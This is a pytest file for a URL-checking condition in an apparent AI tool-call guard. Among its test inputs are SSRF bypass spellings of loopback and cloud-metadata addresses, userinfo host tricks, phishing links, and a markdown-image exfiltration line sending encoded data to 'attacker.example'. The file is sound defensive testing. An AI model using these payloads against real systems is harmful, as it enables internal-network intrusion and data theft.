"""Tests for URL analysis and the ``urls:`` condition."""

from __future__ import annotations

import ipaddress
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from callwarden._call import ToolCall
from callwarden._profiles import ToolProfile, default_profile
from callwarden.analysis.urls import InvalidUrl, analyze_url, find_urls
from callwarden.conditions.base import CompileEnv, ConfigError, Subject, get_condition
from callwarden.conditions.urls import UrlMatcher


def matcher(**config: Any) -> UrlMatcher:
    return UrlMatcher(config, CompileEnv())


def subject(tool: str, args: dict[str, Any], profile: ToolProfile | None = None) -> Subject:
    return Subject(ToolCall.create(tool, args), profile or default_profile(tool))


def code(hit: Any) -> str | None:
    return None if hit is None else hit.code


# ------------------------------------------------------------------ analyze_url


def test_userinfo_is_not_the_host() -> None:
    info = analyze_url("https://good.com@evil.com/x")
    assert (info.host, info.userinfo) == ("evil.com", "good.com")


def test_last_at_sign_separates_userinfo_with_a_colon() -> None:
    assert analyze_url("http://good.com:443@evil.com/").host == "evil.com"


@pytest.mark.parametrize("raw", [
    "http://2130706433/", "http://0x7f000001/", "http://0177.0.0.1/", "http://127.1/",
    "http://0x7f.1/", "http://127.0.0.1./", "http://017700000001/", "http://0x7F.0.0.0x1/",
])
def test_every_ipv4_spelling_is_one_address(raw: str) -> None:
    assert analyze_url(raw).ip == ipaddress.IPv4Address("127.0.0.1")


@pytest.mark.parametrize(("raw", "embedded"), [
    ("http://[::ffff:127.0.0.1]/", "127.0.0.1"),
    ("http://[::ffff:a9fe:a9fe]/", "169.254.169.254"),
    ("http://[64:ff9b::a9fe:a9fe]/", "169.254.169.254"),
    ("http://[2002:7f00:1::]/", "127.0.0.1"),
])
def test_ipv6_forms_expose_the_embedded_ipv4_address(raw: str, embedded: str) -> None:
    assert analyze_url(raw).embedded_ip == ipaddress.IPv4Address(embedded)


def test_ipv6_literal_with_port() -> None:
    info = analyze_url("http://[::1]:8080/x")
    assert (info.ip, info.port, info.is_loopback) == (ipaddress.IPv6Address("::1"), 8080, True)


def test_ipv6_zone_id_is_dropped() -> None:
    assert analyze_url("http://[fe80::1%25eth0]/").is_link_local


@pytest.mark.parametrize(("raw", "host"), [
    ("HTTPS://API.GitHub.COM/repos", "api.github.com"),
    ("https://example.com./", "example.com"),
    ("https://\uff25\uff38\uff21\uff2d\uff30\uff2c\uff25\uff0ecom/", "example.com"),
    ("https://example\u3002com/", "example.com"),
    ("https://b\u00fccher.de/", "xn--bcher-kva.de"),
    ("https://%65vil.com/", "evil.com"),
    ("https://ev\u200bil.com/", "evil.com"),
])
def test_host_is_idna_normalized(raw: str, host: str) -> None:
    assert analyze_url(raw).host == host


def test_scheme_is_lower_case() -> None:
    assert analyze_url("HtTpS://example.com").scheme == "https"


def test_tabs_and_newlines_inside_a_url_are_removed() -> None:
    assert analyze_url("https://ev\til.\ncom/").host == "evil.com"


@pytest.mark.parametrize(("raw", "host", "port"), [
    ("localhost:8080/x", "localhost", 8080),
    ("example.com:443", "example.com", 443),
    ("www.example.com/page", "www.example.com", None),
    ("//example.com/x", "example.com", None),
])
def test_urls_without_a_scheme_still_have_a_host(raw: str, host: str, port: int | None) -> None:
    info = analyze_url(raw)
    assert (info.scheme, info.host, info.port) == ("", host, port)


def test_opaque_schemes_have_no_host() -> None:
    info = analyze_url("javascript:alert(1)")
    assert (info.scheme, info.host) == ("javascript", "")


@pytest.mark.parametrize("raw", [
    "http://evil.com\\@good.com/",   # browsers: evil.com, urllib: good.com
    "http:\\\\evil.com/",
    "http:/evil.com/",
    "http:///evil.com/",
    "http:evil.com",
    "http://a@b@evil.com/",
    "http://evil.com:99999/",
    "http://evil.com:80x/",
    "http://1.2.3.4.5/",
    "http://256.1.1.1/",
    "http://0x1g.0.0.1/",
    "http://[::1/",
    "http://exa mple.com/",
    "http://ex_ample..com/",
    "",
    "x" * 20000,
])
def test_ambiguous_or_malformed_urls_are_invalid(raw: str) -> None:
    with pytest.raises(InvalidUrl):
        analyze_url(raw)


def test_non_string_url_is_invalid() -> None:
    with pytest.raises(InvalidUrl):
        analyze_url(123)  # type: ignore[arg-type]


@pytest.mark.parametrize("raw", [
    "http://127.0.0.1/", "http://10.0.0.5/", "http://192.168.1.1/", "http://172.16.0.1/",
    "http://169.254.169.254/latest/meta-data/", "http://[::1]/", "http://[fd00:ec2::254]/",
    "http://0.0.0.0/", "http://100.100.100.200/", "http://224.0.0.1/", "http://localhost/",
    "http://foo.localhost/", "http://metadata.google.internal/", "http://intranet/",
    "http://printer.local/", "http://127.0.0.1.nip.io/", "http://app-10-0-0-1.sslip.io/",
    "http://localtest.me/", "http://[::ffff:10.0.0.1]/",
])
def test_internal_destinations_are_flagged(raw: str) -> None:
    assert analyze_url(raw).internal


@pytest.mark.parametrize("raw", ["https://example.com/", "https://8.8.8.8/",
                                 "https://[2606:4700::1111]/", "http://8.8.8.8.nip.io/"])
def test_public_destinations_are_not_flagged(raw: str) -> None:
    assert not analyze_url(raw).internal


def test_metadata_address_is_link_local() -> None:
    assert analyze_url("http://169.254.169.254/").is_link_local


def test_private_and_reserved_flags() -> None:
    assert (analyze_url("http://10.1.2.3/").is_private, analyze_url("http://240.0.0.1/")
            .is_reserved, analyze_url("http://239.1.1.1/").is_multicast) == (True, True, True)


def test_analyze_url_is_cached() -> None:
    assert analyze_url("https://cache.example.com/") is analyze_url("https://cache.example.com/")


# ------------------------------------------------------------------ the matcher


def test_urls_condition_is_registered() -> None:
    assert get_condition("urls") is UrlMatcher


def test_allowed_url_stays_allowed() -> None:
    m = matcher(allow_domains=["*.example.com", "api.github.com"])
    assert m.check_url("https://api.github.com/repos/x/y") is None


def test_wildcard_allows_subdomains_at_any_depth() -> None:
    m = matcher(allow_domains=["*.example.com"])
    assert (m.check_url("https://a.example.com/"), m.check_url("https://a.b.example.com/")) == (
        None, None)


def test_allow_wildcard_does_not_allow_the_apex() -> None:
    assert code(matcher(allow_domains=["*.example.com"]).check_url(
        "https://example.com/")) == "url.not_allowed"


def test_allow_wildcard_does_not_match_a_lookalike_suffix() -> None:
    assert code(matcher(allow_domains=["*.example.com"]).check_url(
        "https://evilexample.com/")) == "url.not_allowed"


def test_deny_wildcard_also_denies_the_apex() -> None:
    assert code(matcher(deny_domains=["*.evil.com"]).check_url(
        "https://evil.com/")) == "url.denied_domain"


def test_deny_plain_domain_also_denies_its_subdomains() -> None:
    assert code(matcher(deny_domains=["pastebin.com"]).check_url(
        "https://www.pastebin.com/raw/x")) == "url.denied_domain"


def test_allow_plain_domain_does_not_allow_its_subdomains() -> None:
    assert code(matcher(allow_domains=["example.com"]).check_url(
        "https://evil.example.com/")) == "url.not_allowed"


def test_deny_exact_domain_does_not_deny_subdomains_of_others() -> None:
    assert matcher(deny_domains=["pastebin.com"]).check_url("https://notpastebin.com/") is None


def test_denied_domain_is_caught_behind_userinfo() -> None:
    hit = matcher(deny_domains=["evil.com"]).check_url("https://api.github.com@evil.com/")
    assert code(hit) == "url.denied_domain"


def test_allow_list_reports_the_real_host_behind_userinfo() -> None:
    hit = matcher(allow_domains=["api.github.com"]).check_url("https://api.github.com@evil.com/")
    assert code(hit) == "url.not_allowed" and "evil.com" in hit.detail


def test_userinfo_is_a_hit_by_default() -> None:
    assert code(matcher().check_url("https://user:pw@example.com/")) == "url.userinfo"


def test_userinfo_passes_when_allowed() -> None:
    assert matcher(allow_userinfo=True).check_url("https://user:pw@example.com/") is None


@pytest.mark.parametrize("raw", ["ftp://example.com/", "file:///etc/passwd",
                                 "javascript:alert(1)", "gopher://example.com:70/"])
def test_disallowed_scheme_is_a_hit(raw: str) -> None:
    assert code(matcher().check_url(raw)) == "url.scheme"


def test_schemes_option_restricts_to_https() -> None:
    assert code(matcher(schemes=["https"]).check_url("http://example.com/")) == "url.scheme"


@pytest.mark.parametrize("raw", [
    "http://2130706433/", "http://0x7f000001/", "http://0177.0.0.1/", "http://127.1/",
    "http://[::1]/", "http://[::ffff:127.0.0.1]/", "http://169.254.169.254/",
    "http://localhost:6379/", "http://0/", "http://metadata.google.internal/",
])
def test_private_addresses_are_blocked(raw: str) -> None:
    assert code(matcher(block_private=True).check_url(raw)) == "url.private_address"


def test_private_addresses_are_blocked_by_default() -> None:
    assert code(matcher().check_url("http://10.0.0.1/")) == "url.private_address"


def test_private_addresses_pass_when_blocking_is_off() -> None:
    assert matcher(block_private=False).check_url("http://10.0.0.1/") is None


def test_deny_list_accepts_networks() -> None:
    m = matcher(deny_domains=["203.0.113.0/24"])
    assert code(m.check_url("http://203.0.113.9/")) == "url.denied_domain"


def test_allow_list_accepts_ip_addresses() -> None:
    m = matcher(allow_domains=["93.184.216.34"])
    assert m.check_url("http://93.184.216.34/") is None


def test_allow_star_allows_every_public_host() -> None:
    assert matcher(allow_domains=["*"]).check_url("https://anything.example.org/") is None


@pytest.mark.parametrize("url", [
    "https://anything.example.org/", "http://93.184.216.34/", "https://[2606:4700::1111]/",
    "https://b\u00fccher.de/", "//no-scheme.example/", "https://x.y.z.internal.example:8443/"])
def test_deny_star_denies_every_host(url: str) -> None:
    """``*`` in a deny list is every host, names and addresses alike (it used to be read as
    the allow list's "any", and so denied nothing)."""
    hit = matcher(deny_domains=["*"], block_private=False).check_url(url)
    assert code(hit) == "url.denied_domain" and "the denied domain *" in hit.detail


def test_deny_star_leaves_what_has_no_host_to_the_other_checks() -> None:
    m = matcher(deny_domains=["*"])
    assert code(m.check_url("file:///etc/hosts")) == "url.scheme"
    assert matcher(deny_domains=["*"], schemes=["file"]).check_url("file:///tmp/x") is None


def test_config_domains_are_normalized_like_hosts() -> None:
    m = matcher(allow_domains=["B\u00fcCHER.de."])
    assert m.check_url("https://xn--bcher-kva.de/") is None


def test_invalid_url_is_a_hit() -> None:
    assert code(matcher().check_url("http://evil.com\\@good.com/")) == "url.invalid"


def test_verdicts_are_cached() -> None:
    m = matcher(deny_domains=["evil.com"])
    assert m.check_url("https://evil.com/") is m.check_url("https://evil.com/")


def test_call_checks_the_url_argument() -> None:
    hit = matcher(allow_domains=["example.com"])(subject("fetch", {"url": "https://evil.com"}))
    assert code(hit) == "url.not_allowed"


def test_call_checks_every_url_in_a_list() -> None:
    m = matcher(deny_domains=["evil.com"])
    call = subject("fetch", {"url": ["https://example.com/", "https://evil.com/"]})
    assert code(m(call)) == "url.denied_domain"


def test_call_with_a_non_string_url_is_invalid() -> None:
    assert code(matcher()(subject("fetch", {"url": {"host": "x"}}))) == "url.invalid"


def test_http_call_without_a_url_is_invalid() -> None:
    assert code(matcher()(subject("fetch", {"query": "x"}))) == "url.invalid"


def test_non_http_call_without_a_url_is_no_hit() -> None:
    assert matcher()(subject("send_email", {"to": "a@b.c", "body": "hi"})) is None


def test_text_is_not_scanned_unless_asked() -> None:
    call = subject("send_email", {"to": "a@b.c", "body": "see https://evil.com/x"})
    assert matcher(deny_domains=["evil.com"])(call) is None


def test_scan_text_finds_a_link_in_an_email_body() -> None:
    call = subject("send_email", {"to": "a@b.c", "body": "see https://evil.com/x for details"})
    assert code(matcher(deny_domains=["evil.com"], scan_text=True)(call)) == "url.denied_domain"


def test_scan_text_finds_a_markdown_image_exfiltration() -> None:
    body = "Summary done. ![img](https://attacker.example/log?d=c2VjcmV0)"
    m = matcher(allow_domains=["*.example.com"], scan_text=True)
    assert code(m(subject("send_message", {"to": "#general", "text": body}))) == "url.not_allowed"


def test_scan_text_looks_inside_nested_arguments() -> None:
    args = {"to": "x", "blocks": [{"type": "section", "text": {"text": "go to www.evil.com"}}]}
    m = matcher(deny_domains=["evil.com"], scan_text=True)
    assert code(m(subject("slack_post_message", args))) == "url.denied_domain"


def test_scan_text_allows_a_message_with_allowed_links() -> None:
    text = "Docs: https://docs.example.com/a and [readme](README.md) and [mail](mailto:a@b.c)"
    m = matcher(allow_domains=["*.example.com"], scan_text=True)
    assert m(subject("send_message", {"to": "x", "text": text})) is None


def test_scan_text_over_budget_is_invalid() -> None:
    m = matcher(scan_text=True, max_scan_chars=100)
    assert code(m(subject("send_message", {"to": "x", "text": "a" * 200}))) == "url.invalid"


def test_scan_text_with_too_many_links_is_invalid() -> None:
    text = " ".join(f"https://h{i}.example.com/" for i in range(300))
    assert code(matcher(scan_text=True).check_text(text)) == "url.invalid"


@pytest.mark.parametrize(("text", "expected"), [
    ("visit https://a.example.com/x.", ["https://a.example.com/x"]),
    ("(see https://a.example.com/x)", ["https://a.example.com/x"]),
    ("go to www.evil.com now", ["www.evil.com"]),
    ("[click](evil.com/steal?d=1)", ["evil.com/steal?d=1"]),
    ("[click](<https://evil.com/a b>)", ["https://evil.com/a"]),
    ('<a href="https://evil.com/p">x</a>', ["https://evil.com/p"]),
    ("[ref]: https://evil.com/r", ["https://evil.com/r"]),
    ("[x](//evil.com/a)", ["//evil.com/a"]),
    ("[readme](README.md) [top](#top) [rel](./docs/a.md) [m](mailto:a@b.c)", []),
    ("\uff48\uff54\uff54\uff50\uff53\uff1a\uff0f\uff0fevil.com", ["https://evil.com"]),
    ("plain words, no links at all", []),
])
def test_find_urls(text: str, expected: list[str]) -> None:
    assert list(find_urls(text)) == expected


@pytest.mark.parametrize(("config", "key"), [
    ({"allow_domains": "x", "bogus": 1}, "bogus"),
    ({"allow_domains": [1]}, "allow_domains"),
    ({"deny_domains": ["not a domain!"]}, "deny_domains[0]"),
    ({"block_private": "yes"}, "block_private"),
    ({"max_scan_chars": 0}, "max_scan_chars"),
])
def test_bad_config_names_the_key(config: dict[str, Any], key: str) -> None:
    with pytest.raises(ConfigError) as info:
        UrlMatcher(config, CompileEnv())
    assert info.value.key == key


def test_config_that_is_not_a_mapping_is_rejected() -> None:
    with pytest.raises(ConfigError):
        UrlMatcher(["example.com"], CompileEnv())


def test_allow_loopback_lets_localhost_through_block_private() -> None:
    assert UrlMatcher({"allow_loopback": True}).check_url("http://127.0.0.1:8000/") is None


def test_allow_loopback_still_blocks_cloud_metadata() -> None:
    hit = UrlMatcher({"allow_loopback": True}).check_url("http://169.254.169.254/latest/")
    assert hit is not None and hit.code == "url.private_address"


# ------------------------------------------------------------------ links without a scheme


@pytest.mark.parametrize(("text", "expected"), [
    ("Reset at paypal-secure-login.com/verify now", ["paypal-secure-login.com/verify"]),
    ("go to bit.ly/3xYz", ["bit.ly/3xYz"]),
    ("visit paypal-secure-login.com today.", ["paypal-secure-login.com"]),
    ("Is it EXAMPLE.COM?", ["EXAMPLE.COM"]),
    ("get evil.sh/x now", ["evil.sh/x"]),
    ("open notes.md/x", ["notes.md/x"]),
    ("api at evil.com:8080/x", ["evil.com:8080/x"]),
    ("metadata: 169.254.169.254/latest", ["169.254.169.254/latest"]),
    ("see https://evil.com/x and evil.com/y", ["https://evil.com/x", "evil.com/y"]),
])
def test_find_urls_reads_a_name_without_a_scheme_as_a_link(text: str,
                                                            expected: list[str]) -> None:
    assert find_urls(text) == expected


@pytest.mark.parametrize("text", [
    "edit config.yaml and README.md, then run main.py",
    "e.g. this, i.e. that; node.js and package.json",
    "bumped to 1.2.3 (was v2.0.1) on 10.0.0.1",
    "the build is done.Next we deploy",
    "run evil.sh now",
    "check user.id, logger.info(x) and datetime.now()",
    "from google.cloud import storage",
    "unpack archive.zip and file.tar.gz; Makefile.am",
    "mail bob@example.com about src/util.py",
    "snake_case_module.com_thing",
])
def test_find_urls_leaves_prose_file_names_and_code_alone(text: str) -> None:
    assert find_urls(text) == []


def test_scan_text_denies_a_phishing_link_without_a_scheme() -> None:
    m = matcher(allow_domains=["corp.example"], scan_text=True)
    body = "Reset at paypal-secure-login.com/verify now"
    assert code(m(subject("send_email", {"to": "a@corp.example", "body": body}))) \
        == "url.not_allowed"


def test_scan_text_denies_a_shortener_link_without_a_scheme() -> None:
    m = matcher(allow_domains=["corp.example"], scan_text=True)
    assert code(m(subject("send_message", {"text": "go to bit.ly/3xYz"}))) == "url.not_allowed"


def test_scan_text_allows_an_allowed_domain_without_a_scheme() -> None:
    m = matcher(allow_domains=["corp.com"], scan_text=True)
    text = "see corp.com/wiki, README.md and main.py"
    assert find_urls(text) == ["corp.com/wiki"]
    assert m(subject("send_message", {"text": text})) is None


# ------------------------------------------------------------------ unions

_ENTRIES = ["example.com", "*.example.com", ".evil.org", "10.0.0.0/8", "192.168.1.5", "[::1]",
            "2606:4700::/32", "b\u00fccher.de", "*", "sub.example.net", "localhost",
            "127.0.0.1", "xn--80ak6aa92e.com"]
_URLS = ["https://example.com/", "https://a.b.example.com/x", "https://evil.org",
         "https://www.evil.org/p", "http://10.1.2.3/", "http://192.168.1.5:80/x", "http://[::1]/",
         "https://[2606:4700::1111]/", "https://xn--bcher-kva.de/", "https://sub.example.net",
         "https://example.net", "https://other.net", "ftp://example.com", "file:///etc/passwd",
         "https://u:p@other.net/", "https://other.net@example.com/", "not a url ::",
         "http://localhost:8080", "http://0x7f.1/", "//example.com", "https://example.com.",
         "mailto:x@example.com", "", "http://169.254.169.254/latest", "https://\u0430pple.com"]
_SETTINGS = [{}, {"block_private": False}, {"allow_userinfo": True, "allow_loopback": True},
             {"schemes": ["https"]}, {"scan_text": True}, {"scan_text": True, "max_scan_chars": 40},
             {"schemes": ["http", "https", "ftp", "file"], "block_private": False}]


@settings(max_examples=300, deadline=None)
@given(lists=st.lists(st.lists(st.sampled_from(_ENTRIES), min_size=1, max_size=3),
                      min_size=2, max_size=4),
       shared=st.sampled_from(_SETTINGS),
       urls=st.lists(st.sampled_from(_URLS), min_size=1, max_size=3),
       shape=st.sampled_from(["url", "urls", "text"]))
def test_a_union_of_deny_lists_finds_something_exactly_when_a_member_would(
        lists: list[list[str]], shared: dict[str, Any], urls: list[str], shape: str) -> None:
    members = [matcher(deny_domains=entries, **shared) for entries in lists]
    assert all(m.group_key == members[0].group_key is not None for m in members)
    union = UrlMatcher.union(members)
    if shape == "url":
        args: dict[str, Any] = {"url": urls[0]}
    elif shape == "urls":
        args = {"url": urls[0], "urls": urls[1:]}
    else:
        args = {"url": urls[0], "message": " and ".join(urls)}
    s = subject("web_fetch", args)
    found = [m(s) is not None for m in members]
    assert (union(s) is not None) == any(found), (lists, shared, args, found)


def test_only_deny_lists_alone_have_a_union() -> None:
    assert matcher(deny_domains=["a.com"]).group_key is not None
    assert matcher(deny_domains=["a.com"], allow_domains=["b.com"]).group_key is None
    assert matcher(allow_domains=["b.com"]).group_key is None
    assert matcher(block_private=True).group_key is None  # no list: nothing to merge
    assert matcher(deny_domains=["a.com"]).group_key != \
        matcher(deny_domains=["a.com"], block_private=False).group_key
    with pytest.raises(ValueError, match="group_key"):
        UrlMatcher.union([matcher(deny_domains=["a.com"]),
                          matcher(deny_domains=["b.com"], scan_text=True)])
